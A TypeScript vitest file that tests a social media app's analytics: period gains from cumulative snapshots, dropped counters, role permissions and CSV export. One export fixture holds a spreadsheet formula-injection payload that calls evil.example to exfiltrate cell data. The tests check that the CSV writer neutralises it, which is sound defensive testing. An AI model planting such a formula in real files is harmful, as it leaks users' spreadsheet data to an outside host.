import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { systemDb } from "@mg/db/system";
import { freshAccount, freshPost } from "../procedure-cases/social";
import { readCsvCell } from "../../src/csv/write-csv";
import { EXPORT_COLUMNS } from "../../src/routers/analytics/export-csv";
import { callerFor, createTenant, deleteTenant, outcome, type Tenant } from "../fixtures";

let t: Tenant;
beforeAll(async () => {
  t = await createTenant("analytics");
});
afterAll(async () => {
  await deleteTenant(t);
});

const DAY = 86_400_000;
const todayStart = () => {
  const now = new Date();
  return Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate());
};
const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);

/** A published post on `accountId` with the given cumulative hourly snapshots. */
async function publishedWithSnapshots(accountId: string, snapshots: { at: number; impressions: number; likes?: number; comments?: number; shares?: number; clicks?: number }[]) {
  const postId = await freshPost(t, accountId);
  const publishedAt = new Date(todayStart() - DAY + 11 * 3_600_000);
  await systemDb().post.update({ where: { id: postId }, data: { status: "PUBLISHED", publishedAt } });
  const target = await systemDb().postTarget.findFirstOrThrow({ where: { postId } });
  await systemDb().postTarget.update({ where: { id: target.id }, data: { status: "PUBLISHED", publishedAt } });
  for (const s of snapshots) {
    await systemDb().postMetric.create({
      data: { organizationId: t.id, postTargetId: target.id, socialAccountId: accountId, periodStart: new Date(s.at), impressions: s.impressions, likes: s.likes ?? 0, comments: s.comments ?? 0, shares: s.shares ?? 0, clicks: s.clicks ?? 0 },
    });
  }
  return { postId, targetId: target.id };
}

describe("analytics: what each period gained, from cumulative snapshots counted once", () => {
  let accountId: string;
  let quietAccountId: string;
  let postId: string;

  beforeAll(async () => {
    accountId = await freshAccount(t);
    quietAccountId = await freshAccount(t);
    const yesterdayNoon = todayStart() - DAY + 12 * 3_600_000;
    ({ postId } = await publishedWithSnapshots(accountId, [
      { at: yesterdayNoon, impressions: 100, likes: 5 },
      { at: todayStart() + 1 * 3_600_000, impressions: 250, likes: 12, comments: 2 },
      { at: todayStart() + 2 * 3_600_000, impressions: 300, likes: 15, comments: 3, shares: 1, clicks: 4 },
    ]));
    await systemDb().accountMetric.createMany({
      data: [
        { organizationId: t.id, socialAccountId: accountId, day: day(todayStart() - DAY), followers: 1000 },
        { organizationId: t.id, socialAccountId: accountId, day: day(todayStart()), followers: 1010 },
      ],
    });
  });

  it("postMetrics: per-period gains that add up to the latest snapshot", async () => {
    const result = await callerFor(t.users.ANALYST, t.slug).analytics.postMetrics({ postId });
    const [target] = result.targets;
    expect(target?.series.map((p) => [p.impressions, p.likes, p.comments, p.shares, p.clicks])).toEqual([
      [100, 5, 0, 0, 0],
      [150, 7, 2, 0, 0],
      [50, 3, 1, 1, 4],
    ]);
    expect(target?.series[2]?.engagementRate).toBeCloseTo(9 / 50);
    expect(target?.totals).toMatchObject({ impressions: 300, likes: 15, comments: 3, shares: 1, clicks: 4, engagements: 23 });
    expect(target?.totals.engagementRate).toBeCloseTo(23 / 300);
    expect(result.totals.impressions).toBe(300);
  });

  it("overview: what the posts gained in the window (never a snapshot twice); rates from sums; 0 without impressions", async () => {
    const overview = await callerFor(t.users.ANALYST, t.slug).analytics.overview({ days: 7 });
    expect(overview.totals).toMatchObject({ posts: 1, impressions: 300, engagements: 23 });
    expect(overview.totals.engagementRate).toBeCloseTo(23 / 300);
    const row = overview.accounts.find((a) => a.account.id === accountId);
    expect(row).toMatchObject({ posts: 1, impressions: 300, likes: 15, followers: 1010, followersChange: 10 });
    expect(overview.accounts.find((a) => a.account.id === quietAccountId)).toMatchObject({ posts: 0, impressions: 0, engagementRate: 0, followers: null });
    // Today only: yesterday's reading is the baseline, and the post went out yesterday.
    const today = await callerFor(t.users.ANALYST, t.slug).analytics.overview({ days: 1 });
    expect(today.accounts.find((a) => a.account.id === accountId)).toMatchObject({ posts: 0, impressions: 200, engagements: 18, followers: 1010, followersChange: 10 });
  });

  it("accountMetrics: a day holds only its own increments (the day before is the baseline)", async () => {
    const caller = callerFor(t.users.ANALYST, t.slug);
    const oneDay = await caller.analytics.accountMetrics({ accountId, days: 1 });
    expect(oneDay.series).toHaveLength(1);
    expect(oneDay.series[0]).toMatchObject({ day: day(todayStart()), followers: 1010, impressions: 200, likes: 10, comments: 3, engagements: 18, engagementRate: 18 / 200, decreases: 0 });
    // The window starts from yesterday's count.
    expect(oneDay.totals).toMatchObject({ followers: 1010, followersChange: 10 });

    const twoDays = await caller.analytics.accountMetrics({ accountId, days: 2 });
    expect(twoDays.series.map((d) => [d.day, d.impressions, d.engagements, d.followers])).toEqual([
      [day(todayStart() - DAY), 100, 5, 1000],
      [day(todayStart()), 200, 18, 1010],
    ]);
    expect(twoDays.totals).toMatchObject({ impressions: 300, engagements: 23, followers: 1010, followersChange: 10 });

    const quiet = await caller.analytics.accountMetrics({ accountId: quietAccountId, days: 3 });
    expect(quiet.series.every((d) => d.impressions === 0 && d.engagementRate === 0 && d.followers === null)).toBe(true);
  });
});

describe("a counter that goes down on the network (a recount, a reset, a deleted post)", () => {
  let accountId: string;
  let postId: string;
  const hour = (h: number) => todayStart() + h * 3_600_000;

  beforeAll(async () => {
    accountId = await freshAccount(t);
    ({ postId } = await publishedWithSnapshots(accountId, [
      { at: hour(1), impressions: 100, likes: 10 },
      { at: hour(2), impressions: 1000, likes: 50 },
      // The network now says less: 900 impressions, 40 likes.
      { at: hour(3), impressions: 900, likes: 40 },
      { at: hour(4), impressions: 950, likes: 41 },
    ]));
    // Another post whose drop falls on the window's edge: 500 yesterday (the baseline), 400 today.
    await publishedWithSnapshots(accountId, [
      { at: todayStart() - 3_600_000, impressions: 500 },
      { at: hour(1), impressions: 400 },
    ]);
  });

  const negatives = (value: unknown): string[] =>
    typeof value === "number"
      ? value < 0
        ? [String(value)]
        : []
      : value && typeof value === "object" && !(value instanceof Date)
        ? Object.values(value).flatMap(negatives)
        : [];

  it("gains 0 in that period, which is marked with how much went down; nothing is subtracted", async () => {
    const result = await callerFor(t.users.ANALYST, t.slug).analytics.postMetrics({ postId });
    const series = result.targets[0]?.series ?? [];
    expect(series.map((p) => [p.impressions, p.likes, p.decreases])).toEqual([
      [100, 10, 0],
      [900, 40, 0],
      [0, 0, 1],
      [50, 1, 0],
    ]);
    expect(series[2]?.dropped).toEqual({ impressions: 100, reach: 0, likes: 10, comments: 0, shares: 0, clicks: 0 });
    expect(series[2]?.engagementRate).toBe(0);
    // The totals are the chart's sum: what was gained, with the drop reported next to it.
    expect(result.totals).toMatchObject({ impressions: 1050, likes: 51, decreases: 1, dropped: { impressions: 100, likes: 10 } });
    expect(negatives(result)).toEqual([]);
  });

  it("the account's day and the overview's row are the same numbers, both marked, none negative", async () => {
    const caller = callerFor(t.users.ANALYST, t.slug);
    const chart = await caller.analytics.accountMetrics({ accountId, days: 1 });
    const overview = await caller.analytics.overview({ days: 1 });
    // 1050 from the first post; the second gained nothing today (500 → 400 is a drop, not −100).
    expect(chart.series[0]).toMatchObject({ impressions: 1050, decreases: 2, dropped: { impressions: 200 } });
    expect(chart.totals).toMatchObject({ impressions: 1050, likes: 51, decreases: 2 });
    const row = overview.accounts.find((a) => a.account.id === accountId);
    expect(row).toMatchObject({ impressions: 1050, likes: 51, engagements: 51, decreases: 2, dropped: { impressions: 200, likes: 10 } });
    expect(negatives({ chart, overview })).toEqual([]);
  });

  it("cards are the sum of the rows, a row the sum of its chart, a post's totals the sum of its series", async () => {
    const caller = callerFor(t.users.ANALYST, t.slug);
    const sum = (values: number[]) => values.reduce((a, b) => a + b, 0);
    for (const days of [1, 7, 30]) {
      const overview = await caller.analytics.overview({ days });
      for (const key of ["impressions", "reach", "likes", "comments", "shares", "clicks", "engagements", "decreases"] as const) {
        expect(sum(overview.accounts.map((a) => a[key])), `${days} days, ${key}`).toBe(overview.totals[key]);
      }
      for (const row of overview.accounts) {
        const chart = await caller.analytics.accountMetrics({ accountId: row.account.id, days });
        expect(chart.series).toHaveLength(days);
        expect(sum(chart.series.map((d) => d.impressions))).toBe(chart.totals.impressions);
        expect(sum(chart.series.map((d) => d.decreases))).toBe(chart.totals.decreases);
        expect(chart.totals).toMatchObject({ impressions: row.impressions, engagements: row.engagements, decreases: row.decreases, followers: row.followers, followersChange: row.followersChange });
      }
    }
    const post = await caller.analytics.postMetrics({ postId });
    for (const target of post.targets) expect(sum(target.series.map((p) => p.impressions))).toBe(target.totals.impressions);
    expect(sum(post.targets.map((target) => target.totals.impressions))).toBe(post.totals.impressions);
  });
});

describe("detailed analytics and the export", () => {
  let accountId: string;
  let postId: string;

  beforeAll(async () => {
    accountId = await freshAccount(t, { handle: "export_me" });
    ({ postId } = await publishedWithSnapshots(accountId, [
      { at: todayStart() - DAY + 13 * 3_600_000, impressions: 40, likes: 1 },
      { at: todayStart() - DAY + 14 * 3_600_000, impressions: 80, likes: 3, comments: 1, clicks: 2 },
    ]));
    // Text a spreadsheet would run as a formula.
    await systemDb().post.update({ where: { id: postId }, data: { content: '=HYPERLINK("https://evil.example/?"&A1,"Click")' } });
  });

  it("are for analysts, not viewers: the overview is for everyone, the detail and the CSV are not", async () => {
    const viewer = callerFor(t.users.VIEWER, t.slug);
    const analyst = callerFor(t.users.ANALYST, t.slug);
    expect(await outcome(viewer.analytics.overview({ days: 7 }))).toBe("OK");
    expect(await outcome(viewer.analytics.postMetrics({ postId }))).toBe("FORBIDDEN");
    expect(await outcome(viewer.analytics.accountMetrics({ accountId, days: 7 }))).toBe("FORBIDDEN");
    expect(await outcome(viewer.analytics.export({}))).toBe("FORBIDDEN");
    expect(await outcome(analyst.analytics.postMetrics({ postId }))).toBe("OK");
    expect(await outcome(analyst.analytics.accountMetrics({ accountId, days: 7 }))).toBe("OK");
    expect(await outcome(analyst.analytics.export({}))).toBe("OK");
    // The organization says so, for the app to show or hide what depends on it.
    const mine = (role: "VIEWER" | "ANALYST") => callerFor(t.users[role], t.slug).organization.current().then((c) => c.permissions);
    expect(await mine("VIEWER")).not.toContain("analytics.view_detailed");
    expect(await mine("ANALYST")).toEqual(expect.arrayContaining(["analytics.view_detailed", "analytics.export"]));
  });

  it("export: one row per published post and account with its latest snapshot; formula text stays text", async () => {
    const file = await callerFor(t.users.ANALYST, t.slug).analytics.export({});
    expect(file.fileName).toMatch(new RegExp(`^${t.slug}-post-metrics-all-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    const lines = file.csv.split("\r\n");
    expect(lines[0]).toBe(EXPORT_COLUMNS.join(","));
    expect(lines).toHaveLength(file.rowCount + 1);
    const line = lines.find((l) => l.endsWith(`,${postId}`));
    expect(line, "the exported post").toBeDefined();
    // The formula is neutralized by a leading quote (and quoted, as it holds commas and quotes).
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(readCsvCell(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`)).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
    const numbers = line?.split(",").slice(-10, -2);
    // impressions, reach, likes, comments, shares, clicks, engagements, engagement_rate (latest snapshot only, never 40 + 80)
    expect(numbers).toEqual(["80", "0", "3", "1", "0", "2", "6", String(6 / 80)]);
    // A handle starts with @, which spreadsheets also evaluate: the same writer keeps it text.
    expect(line).toContain("SANDBOX,Account export_me,'@export_me,");
  });

  it("export: `days` keeps only posts published in that window", async () => {
    const old = await publishedWithSnapshots(accountId, [{ at: todayStart() - 40 * DAY, impressions: 10 }]);
    await systemDb().postTarget.update({ where: { id: old.targetId }, data: { publishedAt: new Date(todayStart() - 40 * DAY) } });
    const all = await callerFor(t.users.OWNER, t.slug).analytics.export({});
    const recent = await callerFor(t.users.OWNER, t.slug).analytics.export({ days: 7 });
    expect(all.csv).toContain(old.postId);
    expect(recent.csv).not.toContain(old.postId);
    expect(recent.csv).toContain(postId);
    expect(recent.fileName).toContain("-last-7-days-");
  });
});
